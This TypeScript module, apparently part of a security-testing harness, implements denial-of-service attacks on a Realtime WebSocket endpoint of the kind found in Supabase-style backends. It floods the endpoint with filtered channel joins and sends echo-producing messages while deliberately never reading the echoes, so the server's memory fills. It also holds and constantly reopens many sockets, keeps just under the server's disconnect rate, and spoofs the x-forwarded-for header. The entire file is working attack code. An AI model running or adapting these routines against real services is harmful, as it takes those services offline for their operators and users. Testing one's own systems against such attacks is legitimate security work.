// Attacks with Realtime WebSockets.
import WebSocket from 'ws'
import { attackerAddress, type Target } from './target.ts'

/** The highest rate at which the server does not close a socket. */
const messagesPerSecond = 45
/** Bytes waiting to be sent. Beyond this, an attacker would fill its own memory rather than the server's. */
const maxWaitingBytes = 1_000_000

/** Joins channels with a filter on each of many sockets, the next one as soon as the last is answered. */
export function joinAgainAndAgain(target: Target, sockets: number, filter: string): void {
  const changes = [{ event: '*', schema: 'public', table: 'website_content', filter }]
  const payload = JSON.stringify({ config: { postgres_changes: changes } })
  holdSockets(target, sockets, (socket) => {
    let joins = 0
    const join = () => socket.send(`["1","1","realtime:${joins++ % 100}","phx_join",${payload}]`)
    socket.on('message', (data) => {
      const [, , , event, answer] = JSON.parse(String(data))
      if (event !== 'phx_reply') return
      target.note(answer.status)
      join()
    })
    join()
  })
}

/** Sends messages whose topic is echoed on each of many sockets, and never reads the echoes. */
export function leaveEchoesUnread(target: Target, sockets: number, topicBytes: number): void {
  const message = JSON.stringify([null, '1', 'x'.repeat(topicBytes), 'x', {}])
  holdSockets(target, sockets, (socket) => {
    socket.pause()
    const timer = setInterval(() => {
      if (socket.bufferedAmount < maxWaitingBytes) socket.send(message)
    }, 1000 / messagesPerSecond)
    socket.once('close', () => clearInterval(timer))
  })
}

/** Keeps a number of sockets open, and replaces those that are refused or closed. */
function holdSockets(target: Target, sockets: number, use: (socket: WebSocket) => void): void {
  const address = `${target.url.replace('http', 'ws')}/realtime/v1/websocket?vsn=2.0.0&apikey=${target.publishableKey}`
  const open = () => {
    const headers = { 'x-forwarded-for': attackerAddress }
    const socket = new WebSocket(address, { headers, perMessageDeflate: false })
    socket.once('open', () => use(socket))
    socket.on('error', ({ message }) => target.note(message))
    socket.once('close', (code) => {
      target.note(`closed ${code}`)
      setTimeout(open, 20)
    })
  }
  for (let number = 0; number < sockets; number++) open()
}
